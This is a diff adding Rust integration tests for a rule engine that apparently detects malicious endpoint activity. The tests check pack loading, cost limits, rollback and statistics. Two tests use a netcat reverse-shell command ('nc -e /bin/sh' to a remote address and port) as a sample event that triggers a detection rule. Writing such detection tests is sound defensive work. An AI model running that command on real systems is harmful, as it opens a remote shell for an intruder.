@@ -1,0 +1,324 @@
+//! The engine's contract: the bundled pack loads and gives every sample event its expected
+//! verdict on every backend; bad packs are refused whole, with every diagnostic, and the
+//! running pack keeps running; the cost budget; bucketing; statistics; rollback.
+
+use std::path::{Path, PathBuf};
+
+use ringfence_vm::engine::{DiagnosticKind, Engine, EvalError, Severity, Timing};
+use ringfence_vm::event::{EventBuf, SchemaSet};
+use ringfence_vm::Backend;
+use serde_json::Value;
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
+}
+
+fn endpoint_pack() -> PathBuf {
+    root().join("examples/packs/endpoint")
+}
+
+/// A scratch directory for one test, emptied first.
+fn scratch_dir(name: &str) -> PathBuf {
+    let dir = std::env::temp_dir().join(format!("ringfence-engine-{}-{name}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+/// Copies the endpoint pack into a scratch directory, with `edit` applied to its manifest.
+fn edited_pack(name: &str, edit: impl FnOnce(&mut Value)) -> PathBuf {
+    let dir = scratch_dir(name);
+    for entry in std::fs::read_dir(endpoint_pack()).unwrap() {
+        let path = entry.unwrap().path();
+        std::fs::copy(&path, dir.join(path.file_name().unwrap())).unwrap();
+    }
+    let manifest_path = dir.join("pack.json");
+    let mut manifest: Value =
+        serde_json::from_str(&std::fs::read_to_string(&manifest_path).unwrap()).unwrap();
+    edit(&mut manifest);
+    std::fs::write(
+        &manifest_path,
+        serde_json::to_string_pretty(&manifest).unwrap(),
+    )
+    .unwrap();
+    dir
+}
+
+/// (rule id, JSON event, whether that rule should match) for every sample event.
+fn samples() -> Vec<(String, String, bool)> {
+    let mut out = Vec::new();
+    let dir = root().join("examples/events");
+    let mut files: Vec<_> = std::fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    files.sort();
+    for file in files {
+        let rule = file.file_stem().unwrap().to_string_lossy().to_string();
+        for line in std::fs::read_to_string(&file).unwrap().lines() {
+            if line.trim().is_empty() {
+                continue;
+            }
+            let case: Value = serde_json::from_str(line).unwrap();
+            let expect = case["expect"].as_str().unwrap() == "match";
+            out.push((rule.clone(), case["event"].to_string(), expect));
+        }
+    }
+    out
+}
+
+#[test]
+fn the_endpoint_pack_gives_every_sample_its_verdict_on_every_backend() {
+    for backend in Backend::ALL {
+        if backend == Backend::Jit && !Backend::jit_available() {
+            continue;
+        }
+        let engine = Engine::builder()
+            .schemas(SchemaSet::endpoint())
+            .backend(backend)
+            .build()
+            .unwrap();
+        let info = engine.load_pack(endpoint_pack()).unwrap();
+        assert_eq!(info.name, "endpoint-examples");
+        assert_eq!(info.rules.len(), 11);
+        let mut evaluator = engine.evaluator();
+        evaluator.set_clock_ns(Some(1_000));
+        let mut event = EventBuf::new();
+        let mut checked = 0;
+        for (rule, json, expect) in samples() {
+            engine.encoder().encode_line(&json, 1, &mut event).unwrap();
+            let evaluation = evaluator.evaluate(&event).unwrap();
+            assert!(
+                evaluation.faults().is_empty(),
+                "{rule}: {:?}",
+                evaluation.faults()
+            );
+            let matched = evaluation.matches().any(|m| m.rule.id == rule);
+            assert_eq!(matched, expect, "{backend}: rule {rule} on {json}");
+            // Every alert comes from a rule that matched, of the event's type.
+            for alert in evaluation.alerts() {
+                let by = evaluation.rule(alert.rule).unwrap();
+                assert_eq!(by.event_type, evaluation.event_type());
+            }
+            checked += 1;
+        }
+        assert!(checked > 20);
+    }
+}
+
+#[test]
+fn an_event_meets_only_the_rules_of_its_type() {
+    let engine = Engine::builder().build().unwrap();
+    let info = engine.load_pack(endpoint_pack()).unwrap();
+    let mut evaluator = engine.evaluator();
+    let mut event = EventBuf::new();
+    for (type_name, type_id) in [
+        ("process_exec", 1),
+        ("file_open", 2),
+        ("network_connect", 3),
+        ("auth_attempt", 4),
+    ] {
+        engine
+            .encoder()
+            .encode_line(&format!(r#"{{"type": "{type_name}"}}"#), 1, &mut event)
+            .unwrap();
+        let evaluation = evaluator.evaluate(&event).unwrap();
+        let expected = info
+            .rules
+            .iter()
+            .filter(|r| r.event_type == type_id)
+            .count();
+        assert_eq!(evaluation.rules_evaluated(), expected, "{type_name}");
+        assert_eq!(
+            info.cost(type_name).unwrap().rules.len(),
+            expected,
+            "{type_name}"
+        );
+    }
+}
+
+#[test]
+fn events_of_the_wrong_shape_are_refused_before_any_rule_runs() {
+    let engine = Engine::builder().build().unwrap();
+    engine.load_pack(endpoint_pack()).unwrap();
+    let mut evaluator = engine.evaluator();
+    let mut event = EventBuf::new();
+    event.reset(99, 64);
+    assert_eq!(
+        evaluator.evaluate(&event).unwrap_err(),
+        EvalError::UnknownEventType { type_id: 99 }
+    );
+    event.reset(1, 24);
+    assert!(matches!(
+        evaluator.evaluate(&event).unwrap_err(),
+        EvalError::WrongFixedLen { expected, found: 24, .. } if expected != 24
+    ));
+}
+
+#[test]
+fn severities_and_disabled_rules_come_from_the_manifest() {
+    let dir = edited_pack("disabled", |m| {
+        m["rules"][0]["enabled"] = Value::Bool(false);
+    });
+    let engine = Engine::builder().build().unwrap();
+    let info = engine.load_pack(&dir).unwrap();
+    let netcat = info.rules.iter().find(|r| r.id == "netcat_exec").unwrap();
+    assert!(!netcat.enabled);
+    assert_eq!(netcat.severity, Severity::High);
+    let mut evaluator = engine.evaluator();
+    let mut event = EventBuf::new();
+    engine
+        .encoder()
+        .encode_line(
+            r#"{"type": "process_exec", "exe": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]}"#,
+            1,
+            &mut event,
+        )
+        .unwrap();
+    assert!(!evaluator.evaluate(&event).unwrap().is_match());
+    let enabled = Engine::builder().build().unwrap();
+    enabled.load_pack(endpoint_pack()).unwrap();
+    let mut evaluator = enabled.evaluator();
+    let evaluation = evaluator.evaluate(&event).unwrap();
+    assert!(evaluation.matches().any(|m| m.rule.id == "netcat_exec"));
+}
+
+#[test]
+fn a_pack_with_several_problems_is_refused_with_every_one_and_the_running_pack_stays() {
+    let engine = Engine::builder().build().unwrap();
+    let running = engine.load_pack(endpoint_pack()).unwrap();
+    let dir = edited_pack("broken", |m| {
+        // A refused rule object, a missing object, a wrong schema version.
+        m["rules"][1]["object"] = Value::String("refused.o".into());
+        m["rules"][2]["object"] = Value::String("missing.o".into());
+        m["schema_versions"]["file_open"] = Value::from(7);
+    });
+    std::fs::copy(
+        root().join("examples/rules/refused/exe_first_byte_unchecked.o"),
+        dir.join("refused.o"),
+    )
+    .unwrap();
+    let error = engine.load_pack(&dir).unwrap_err();
+    let text = error.to_string();
+    assert_eq!(error.diagnostics.len(), 3, "{text}");
+    assert!(matches!(
+        error.diagnostics[0].kind,
+        DiagnosticKind::SchemaVersion {
+            pack: 7,
+            host: 1,
+            ..
+        }
+    ));
+    assert!(
+        text.contains("refused.o (rule `exec_from_dev_shm`)"),
+        "{text}"
+    );
+    assert!(text.contains("refused by the verifier"), "{text}");
+    assert!(
+        text.contains("missing.o (rule `exe_first_byte`): cannot read it"),
+        "{text}"
+    );
+    assert!(text.contains("nothing of it was loaded"), "{text}");
+    assert_eq!(engine.current().unwrap().id, running.id);
+}
+
+#[test]
+fn a_pack_over_the_cost_ceiling_is_refused_naming_the_event_type_and_heaviest_rules() {
+    let probe = Engine::builder().build().unwrap();
+    let info = probe.load_pack(endpoint_pack()).unwrap();
+    let exec = info.cost("process_exec").unwrap();
+    let heaviest = &info.rules[exec.rules[0]];
+    assert!(exec.worst_case_insns > 0);
+    assert_eq!(
+        exec.worst_case_insns,
+        exec.rules
+            .iter()
+            .map(|&i| info.rules[i].worst_case_insns)
+            .sum::<u64>()
+    );
+    assert_eq!(info.max_cost(), exec.worst_case_insns);
+
+    // At the pack's own maximum it loads; one below it does not.
+    let engine = Engine::builder()
+        .max_cost_per_event(info.max_cost())
+        .build()
+        .unwrap();
+    engine.load_pack(endpoint_pack()).unwrap();
+    let tight = Engine::builder()
+        .max_cost_per_event(info.max_cost() - 1)
+        .build()
+        .unwrap();
+    let error = tight.load_pack(endpoint_pack()).unwrap_err();
+    assert!(tight.current().is_none());
+    let text = error.to_string();
+    assert!(
+        text.contains(&format!(
+            "a `process_exec` event (type 1) meets rules whose worst cases add up to {} instructions, over the engine's ceiling of {}",
+            exec.worst_case_insns,
+            info.max_cost() - 1
+        )),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!("`{}` {}", heaviest.id, heaviest.worst_case_insns)),
+        "{text}"
+    );
+}
+
+#[test]
+fn rollback_returns_to_the_previous_pack_and_back() {
+    let engine = Engine::builder().build().unwrap();
+    assert!(engine.rollback().is_err());
+    let first = engine.load_pack(endpoint_pack()).unwrap();
+    let second = engine.load_pack(endpoint_pack()).unwrap();
+    assert_ne!(first.id, second.id);
+    assert_eq!(engine.rollback().unwrap().id, first.id);
+    assert_eq!(engine.current().unwrap().id, first.id);
+    assert_eq!(engine.rollback().unwrap().id, second.id);
+    engine.release_previous();
+    assert!(engine.rollback().is_err());
+    assert_eq!(engine.current().unwrap().id, second.id);
+}
+
+#[test]
+fn statistics_count_evaluations_hits_and_time() {
+    let engine = Engine::builder().timing(Timing::Every).build().unwrap();
+    let info = engine.load_pack(endpoint_pack()).unwrap();
+    let mut event = EventBuf::new();
+    engine
+        .encoder()
+        .encode_line(
+            r#"{"type": "process_exec", "exe": "/usr/bin/nc", "args": ["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]}"#,
+            1,
+            &mut event,
+        )
+        .unwrap();
+    let threads: Vec<_> = (0..2)
+        .map(|_| {
+            let engine = engine.clone();
+            let event = event.clone();
+            std::thread::spawn(move || {
+                let mut evaluator = engine.evaluator();
+                for _ in 0..10 {
+                    evaluator.evaluate(&event).unwrap();
+                }
+            })
+        })
+        .collect();
+    for thread in threads {
+        thread.join().unwrap();
+    }
+    let stats = engine.stats().unwrap();
+    assert_eq!(stats.events, 20);
+    for rule in &stats.rules {
+        let info = &info.rules[rule.index];
+        let expected = if info.event_type == 1 { 20 } else { 0 };
+        assert_eq!(rule.evaluations, expected, "{}", info.id);
+        assert_eq!(rule.timed_evaluations, expected, "{}", info.id);
+        assert_eq!(rule.worst_case_insns, info.worst_case_insns);
+        if info.id == "netcat_exec" {
+            assert_eq!(rule.hits, 20);
+            assert!(rule.max_ns > 0 && rule.estimated_total_time().is_some());
+        }
+    }
+}
